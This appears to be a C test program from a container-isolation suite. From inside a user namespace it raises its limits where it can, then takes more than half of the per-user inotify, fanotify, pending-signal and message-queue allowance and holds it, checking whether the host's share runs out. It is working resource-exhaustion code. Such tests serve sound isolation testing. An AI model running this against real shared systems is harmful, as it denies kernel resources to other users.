/* SPDX-License-Identifier: MIT */
#define _GNU_SOURCE
/*
 * counted take SIGNALS BYTES: take more than half of what a user may have of inotify and
 * fanotify instances, of SIGNALS pending signals and of BYTES in message queues; raise
 * limits where that can be done; say what was taken, and keep it.
 * counted left SIGNALS BYTES: on the host, is half of each left?
 */
#include "attack.h"

#include <mqueue.h>
#include <signal.h>
#include <stdbool.h>
#include <sys/fanotify.h>
#include <sys/inotify.h>
#include <sys/resource.h>
#include <time.h>

static bool inotify(void)
{
	return inotify_init() >= 0;
}

static bool fanotify(void)
{
	return fanotify_init(FAN_CLASS_NOTIF | FAN_REPORT_FID, O_RDONLY) >= 0;
}

/* A timer has room set aside for its signal. */
static bool signals(void)
{
	struct sigevent event = { .sigev_notify = SIGEV_SIGNAL,
				  .sigev_signo = SIGUSR1 };
	timer_t timer;

	return !timer_create(CLOCK_MONOTONIC, &event, &timer);
}

enum { QUEUE = 10 * 1024 };

static bool queues(void)
{
	struct mq_attr attributes = { .mq_maxmsg = 10, .mq_msgsize = 1024 };
	char name[32];
	mqd_t queue;

	sprintf(name, "/breakout%d", (int)getpid());
	queue = mq_open(name, O_RDWR | O_CREAT | O_EXCL, 0600, &attributes);
	mq_unlink(name);
	return queue >= 0;
}

/* The number in FILE, which every user namespace shows alike. */
static long number_in(const char *file)
{
	FILE *f = fopen(file, "re");
	long number = 0;

	if (!f || fscanf(f, "%ld", &number) != 1)
		return 0;
	fclose(f);
	return number;
}

/* Is this the host's user namespace? Its map is of all ids. */
static bool on_host(void)
{
	char map[64] = "";
	FILE *f = fopen("/proc/self/uid_map", "re");

	if (!f || !fgets(map, sizeof map, f))
		return true;
	fclose(f);
	return strstr(map, "4294967295") != NULL;
}

/* The limits of this process, and of its user namespace; but not the host's. */
static void raise_limits(void)
{
	static const struct rlimit none = { RLIM_INFINITY, RLIM_INFINITY };
	static const char *const files[] = {
		"/proc/sys/user/max_inotify_instances",
		"/proc/sys/user/max_fanotify_groups"
	};
	FILE *f;

	setrlimit(RLIMIT_SIGPENDING, &none);
	setrlimit(RLIMIT_MSGQUEUE, &none);
	for (int i = 0; i < 2 && !on_host(); i++) {
		f = fopen(files[i], "we");
		if (f && fputs("100000", f) >= 0)
			fclose(f);
	}
}

int main(int argc, char *argv[])
{
	bool taking = argc == 4 && !strcmp(argv[1], "take"), all = true;
	const struct {
		const char *name;
		bool (*take)(void);
		long most;
	} kinds[] = {
		{ "inotify", inotify,
		  number_in("/proc/sys/fs/inotify/max_user_instances") },
		{ "fanotify", fanotify,
		  number_in("/proc/sys/fs/fanotify/max_user_groups") },
		{ "signals", signals, argc == 4 ? atol(argv[2]) : 0 },
		{ "queues", queues, argc == 4 ? atol(argv[3]) / QUEUE : 0 },
	};

	if (taking)
		raise_limits();
	for (size_t i = 0; i < sizeof kinds / sizeof *kinds; i++) {
		long n = 0;

		while (n <= kinds[i].most / 2 && kinds[i].take())
			n++;
		printf("%s %ld of %ld\n", kinds[i].name, n, kinds[i].most);
		all = all && n > kinds[i].most / 2;
	}
	puts("taken");
	fflush(stdout);
	if (taking)
		pause();
	return all ? HELD : OUT;
}
